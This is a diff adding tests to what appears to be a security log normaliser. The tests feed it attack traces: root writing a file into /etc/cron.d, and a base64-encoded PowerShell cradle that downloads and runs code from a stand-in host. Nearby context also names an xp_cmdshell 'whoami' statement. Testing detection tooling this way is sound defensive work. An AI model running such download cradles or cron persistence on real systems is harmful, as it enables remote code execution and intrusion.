@@ -1,6 +1,7 @@
 """What the normaliser makes of every family, and what no text may do to it."""
 from __future__ import annotations
 
+import base64
 import doctest
 import importlib
 import json
@@ -589,3 +590,24 @@ def test_a_databases_audit_in_windows_text_tells_its_statement_first():
             "additional_information:\n.")
     found = normalise(Event(text))
     assert "failed statement exec xp cmdshell whoami all" in found.template and found.focus
+
+
+@pytest.mark.parametrize("between", ["\n", " "])
+def test_joined_audit_records_tell_the_file_and_not_the_folder_around_it(between):
+    text = between.join((
+        'type=SYSCALL msg=audit(1.1:1): arch=c000003e syscall=257 success=yes items=2 auid=1000 uid=0 comm="tee" exe="/usr/bin/tee"',
+        'type=CWD msg=audit(1.1:1): cwd="/root"',
+        'type=PATH msg=audit(1.1:1): item=0 name="/etc/cron.d/" inode=1 dev=08:01 mode=040755 ouid=0 ogid=0 nametype=PARENT',
+        'type=PATH msg=audit(1.1:1): item=1 name="/etc/cron.d/refresh" inode=2 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=CREATE'))
+    found = normalise(Event(text, "linux_audit"))
+    assert "file etc cron d refresh create" in found.template and dict(found.entities)["path"] == "etc cron d refresh"
+
+
+def test_a_command_that_a_table_or_a_sentence_holds_encoded_is_decoded():
+    hidden = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode("utf-16le")).decode()
+    assert "download string" in read(f"2031-03-01 10:11:12,ws7,ann,powershell -nop -enc {hidden}").template
+
+
+@pytest.mark.parametrize(("sourcetype", "kind"), [("http:param", "web"), ("access_combined", "web"), ("nginx:plus:access", "web"), ("aws:waf", "web"), ("ldap:access", "text"), ("doors:access", "text")])
+def test_only_sourcetypes_of_the_web_make_a_request_of_a_plain_line(sourcetype, kind):
+    assert normalise(Event("conn 7 op 3 BIND of cn admin", sourcetype)).kind == kind
